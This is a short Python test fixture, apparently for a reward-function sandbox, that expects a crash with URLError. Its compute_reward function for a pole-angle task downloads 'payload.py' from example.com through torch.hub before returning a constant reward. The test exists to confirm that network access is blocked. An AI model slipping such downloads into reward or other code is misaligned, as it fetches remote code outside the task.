"""Downloads over HTTP with torch.hub (name resolution and connect both fail)."""

# expect: crashed
# message: URLError
import torch


def compute_reward(pole_angle: torch.Tensor) -> tuple[torch.Tensor, dict[str, torch.Tensor]]:
    torch.hub.download_url_to_file("http://example.com/payload.py", "payload.py", progress=False)
    alive = torch.ones_like(pole_angle)
    return alive, {"alive": alive}
